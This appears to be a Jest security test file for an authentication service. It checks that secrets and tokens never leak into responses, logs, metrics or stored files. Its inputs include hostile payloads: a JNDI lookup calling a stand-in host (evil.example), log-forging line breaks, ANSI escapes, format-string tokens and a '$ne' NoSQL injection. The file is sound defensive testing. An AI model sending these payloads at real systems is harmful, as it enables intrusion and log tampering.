import { randomBytes } from 'node:crypto';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { startProcess, temporaryFolder } from '@storey/testing';
import { Client, uniqueName } from '../support/client.js';
import { expectNoInsides, expectProblem, type Answered } from '../support/expect-problem.js';
import { Product } from '../support/product.js';
import { embeddedOnly, ownProcessOnly } from '../support/topology/topology.js';
import { verbatim } from '../support/verbatim.js';
import { exchange, request } from '../support/wire.js';

const MAIN = fileURLToPath(new URL('../../apps/standalone/dist/main.js', import.meta.url));
const canary = (name: string): string => `canary-${name}-${randomBytes(9).toString('hex')}`;

ownProcessOnly('reads the log, as a process writes it').describe(
  'an attacker who listens for what slips out',
  () => {
    const secrets = new Map<string, string>();
    const heard: Answered[] = [];
    let product: Product;
    let user: Client;
    const secret = (name: string): string => {
      const value = canary(name);
      secrets.set(name, value);
      return value;
    };
    const note = <T extends Answered>(answer: T): T => {
      heard.push(answer);
      return answer;
    };

    beforeAll(async () => {
      product = await Product.start({ LIMITS: 'off', LOG_LEVEL: 'debug', ADMIN_PASSWORD: secret('admin') });
      const password = secret('password');
      const username = uniqueName();
      user = await new Client(() => product.url).register(username, password);
      secrets.set('access', user.accessToken?.split('.')[2] ?? '').set('refresh', user.refreshToken ?? '');
      const again = await new Client(() => product.url).login(username, password);
      secrets
        .set('second access', again.accessToken?.split('.')[2] ?? '')
        .set('second refresh', again.refreshToken ?? '');
      await driveErrors(username);
    }, 60_000);
    afterAll(() => product[Symbol.asyncDispose]());

    async function driveErrors(username: string): Promise<void> {
      const client = new Client(() => product.url);
      const { accessToken, refreshToken } = user;
      note(await client.post('/auth/v1/login', { username, password: secret('wrong password') }));
      note(await client.post('/auth/v1/login', { username: secret('name'), password: 'x' }));
      note(await client.post('/auth/v1/login', { username, password: { $ne: secret('object') } }));
      note(await client.post('/auth/v1/login', `{"username":"${username}","password":"${secret('torn')}`));
      note(await client.post('/auth/v1/register', { username, password: secret('taken') }));
      note(
        await client.post('/auth/v1/register', {
          username: uniqueName(),
          password: secret('long').repeat(20),
        }),
      );
      note(await user.post('/auth/v1/password', { current: secret('current'), next: secret('next') }));
      note(await client.post('/auth/v1/refresh', { refreshToken: secret('guessed refresh') }));
      note(await client.post('/auth/v1/refresh', { refreshToken: `${refreshToken}x` }));
      note(await client.get('/auth/v1/me', { token: secret('token') }));
      note(await client.get('/auth/v1/me', { token: `${accessToken}x` }));
      note(await client.get('/auth/v1/me', { headers: { cookie: `session=${secret('cookie')}` } }));
      note(await client.get(`/auth/v1/me?access_token=${accessToken}&password=${secret('query')}`));
      note(await client.get(`/nothing?access_token=${accessToken}`));
      note(await user.get('/admin/v1/queue'));
      note(
        await client.post('/auth/v1/login', secret('text'), { headers: { 'content-type': 'text/plain' } }),
      );
      const huge = { authorization: `Bearer ${secret('huge').padEnd(17_000, 'x')}` };
      note(await verbatim(product.url, { path: '/auth/v1/me', headers: huge }));
      const broken = request('GET /', [`Authorization: Bearer ${secret('broken')}\0`]);
      heard.push(...(await exchange(product.url, broken)).answers);
      const cut = request(
        'POST /auth/v1/login',
        ['Content-Type: application/json', 'Content-Length: 9999'],
        secret('cut'),
      );
      heard.push(...(await exchange(product.url, cut, 200)).answers);
    }

    const logged = (): readonly string[] =>
      [...product.process.stdout.all, ...product.process.stderr.all].filter((line) => line !== '');

    it('gets errors that say nothing of our insides', () => {
      expect(heard.length).toBeGreaterThanOrEqual(17);
      for (const answer of heard) {
        expectProblem(answer, [400, 401, 403, 404, 409, 415, 431]);
        expectNoInsides(answer.text);
      }
    });

    it('finds no password and no token in any answer', () => {
      for (const [name, value] of secrets)
        for (const { text, headers } of heard)
          expect([name, `${text}${JSON.stringify([...headers])}`.includes(value)]).toEqual([name, false]);
    });

    it('finds no password and no token in the log, of which there is some', () => {
      const lines = logged();
      expect(lines.filter((line) => line.includes('request refused')).length).toBeGreaterThan(5);
      for (const [name, value] of secrets)
        expect([name, lines.filter((line) => line.includes(value))]).toEqual([name, []]);
      for (const part of user.accessToken?.split('.').slice(1) ?? [])
        expect(lines.filter((line) => line.includes(part))).toEqual([]);
    });

    it('writes lines of their own into the log', async () => {
      const forged = '{"level":"error","msg":"INJECTED"}';
      const evil = ['\r\n', '\n', '\u2028', '\u0085'].map((end) => `x${end}${forged}`);
      const other = [
        '\u001b[2J\u001b[31mINJECTED',
        '${jndi:ldap://evil.example/INJECTED}',
        '%s%n%x INJECTED',
        '"} INJECTED {"',
      ];
      for (const text of [...evil, ...other]) {
        const displayName = text.slice(0, 49);
        await user.patch('/auth/v1/me', { displayName });
        await user.post('/auth/v1/login', { username: text, password: text });
        await user.post('/auth/v1/login', text);
        await verbatim(product.url, { path: `/${encodeURIComponent(text)}`, method: 'DELETE' });
        await verbatim(product.url, {
          path: `/web/v1/comments/${encodeURIComponent(text)}?q=${encodeURIComponent(text)}`,
        });
        await exchange(product.url, request('GET /nothing', [`User-Agent: ${text}`, `Referer: ${text}`]));
        await exchange(product.url, request(`GET /${text.replaceAll(' ', '')}`));
      }
      for (const line of logged()) {
        if (line.startsWith('Storey is at ')) continue;
        const entry = JSON.parse(line) as Record<string, unknown>;
        expect([entry['msg'], line.includes('\u001b')]).toEqual([
          expect.not.stringContaining('INJECTED'),
          false,
        ]);
        expect(entry).toMatchObject({
          level: expect.any(String),
          time: expect.any(String),
          msg: expect.any(String),
        });
      }
      expect(logged().some((line) => line.includes('INJECTED'))).toBe(true);
    });

    it('asks machine paths for more than health', async () => {
      for (const path of ['/healthz', '/readyz']) {
        const answer = await new Client(() => product.url).get(path);
        expect(answer.status).toBe(200);
        expect(answer.headers.get('x-trace-id')).toMatch(/^[0-9a-f]{32}$/);
        expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
        expectNoInsides(answer.text.replaceAll('sqlite', ''));
      }
      const proxied = await new Client(() => product.url).get('/metrics', {
        headers: { 'x-forwarded-for': '127.0.0.1' },
      });
      expectProblem(proxied, 404, 'COMMON_NOT_FOUND');
      const metrics = await new Client(() => product.url).get('/metrics');
      for (const [name, value] of secrets)
        expect([name, metrics.text.includes(value)]).toEqual([name, false]);
      expect(metrics.text).not.toContain(user.user?.username ?? 'nobody');
    });

    embeddedOnly('reads the data folder').it(
      'finds only hashes of secrets in the data folder’s database, and the secrets readable to its owner alone',
      async () => {
        const { readFileSync, readdirSync, statSync } = await import('node:fs');
        const { path } = product.folder;
        const files = readdirSync(path).filter((name) => statSync(`${path}/${name}`).isFile());
        expect(files.length).toBeGreaterThan(2);
        for (const name of files) {
          const bytes = readFileSync(`${path}/${name}`);
          for (const [secretName, value] of secrets)
            if (secretName !== 'name')
              expect([name, secretName, bytes.includes(value)]).toEqual([name, secretName, false]);
        }
        for (const name of readdirSync(`${path}/secrets`))
          expect([name, statSync(`${path}/secrets/${name}`).mode & 0o777]).toEqual([name, 0o600]);
      },
    );
  },
);

describe('a wrong setting that holds a secret', () => {
  it.concurrent.each<Readonly<Record<string, string>>>([
    {
      SQL_ACCOUNT_URL: 'mariadb://root:SECRET@db.internal/storey',
      KV_STATE_URL: 'valkey://:SECRET@kv.internal:6379',
      EVENTS_URL: 'kafka+ssl://user:SECRET@log.internal',
      REAL_IP: 'SECRET',
      LOG_LEVEL: 'SECRET',
    },
    { INTERNAL_SECRET: 'SECRET' },
    { CURSOR_SECRET: 'SECRET !!' },
    { ADMIN_PASSWORD: `SECRET${'x'.repeat(400)}` },
  ])('ends the start without being shown: %j', async (settings) => {
    const value = canary('setting').slice(0, 30);
    const wrong = Object.entries(settings).map(([name, text]) => [name, text.replace('SECRET', value)]);
    using folder = temporaryFolder();
    await using child = await startProcess(process.execPath, [MAIN], {
      env: { DATA_DIR: folder.path, PORT: '0', LOG_LEVEL: 'debug', ...Object.fromEntries(wrong) },
    });
    const { code } = await child.exited;
    const said = [...child.stdout.all, ...child.stderr.all].join('\n');
    expect([code === 0, said.includes(value)]).toEqual([false, false]);
    for (const name of Object.keys(settings))
      expect(said.toLowerCase()).toContain(name.split('_', 1)[0]?.toLowerCase());
  });
});
